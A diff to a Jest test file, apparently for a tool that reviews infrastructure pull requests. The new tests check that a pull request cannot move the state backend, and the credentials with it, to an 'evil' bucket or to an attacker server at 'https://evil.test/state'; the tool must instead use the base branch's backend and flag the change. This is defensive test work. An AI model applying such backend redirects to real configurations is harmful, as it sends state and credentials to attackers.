@@ -13,11 +13,14 @@ let bench: PullBench;
 let engine: FakeEngine;
 /** What lies in the root besides what was rendered. */
 let planted: Readonly<Record<string, string>>;
+/** Where the engine was told to read the state. */
+let state: SessionRequest['backend'] | undefined;
 
 const engines = await import('../../../src/engines/index.js');
 jest.unstable_mockModule('../../../src/engines/index.js', () => ({
   ...engines,
-  openSession: async (_name: string, { dir, files, inspect }: SessionRequest) => {
+  openSession: async (_name: string, { dir, files, backend, inspect }: SessionRequest) => {
+    state = backend;
     inspect?.({ dir: join(dir, 'root'), files: new Map([...files, ...Object.entries(planted)]), others: [] });
     return engine;
   },
@@ -33,6 +36,7 @@ beforeEach(async () => {
   bench = await PullBench.open();
   engine = new FakeEngine();
   planted = {};
+  state = undefined;
 });
 afterEach(() => bench.close());
 
@@ -133,6 +137,26 @@ describe('attack: a pull request loosens in the same change', () => {
     const { outcome, comment } = await proposed(manifest(), manifest());
     expect(outcome?.outputs['verdict']).toBe('needs-approval');
     expect(comment).toContain('.github/workflows/plan.yml is loosened');
+  });
+});
+
+describe('attack: a pull request moves the state, and credentials with it', () => {
+  it.each([
+    ['to another bucket', '{ backend: s3, bucket: evil }'],
+    ['to a server of its author', '{ backend: http, address: "https://evil.test/state" }'],
+    ['to another region', '{ backend: s3, bucket: tiny-states, region: us-east-1 }'],
+  ])('%s: the base branch says where it is, and the change is shown', async (_, place) => {
+    const { comment } = await proposed(manifest(), manifestText(`  state: ${place}\n`));
+    expect(state).toMatchObject({ kind: 's3', config: { bucket: 'tiny-states', region: 'eu-west-1' } });
+    expect(comment).toMatch(
+      /spec\.state\.\w+ is loosened, from .*: who may be what, or where tokens go, changes\./,
+    );
+    expect(comment).toContain('This run used what main says.');
+  });
+
+  it('that the base branch does not have: it is the only one there is', async () => {
+    await proposed(manifestText(), manifest());
+    expect(state).toMatchObject({ config: { bucket: 'tiny-states' } });
   });
 });
 
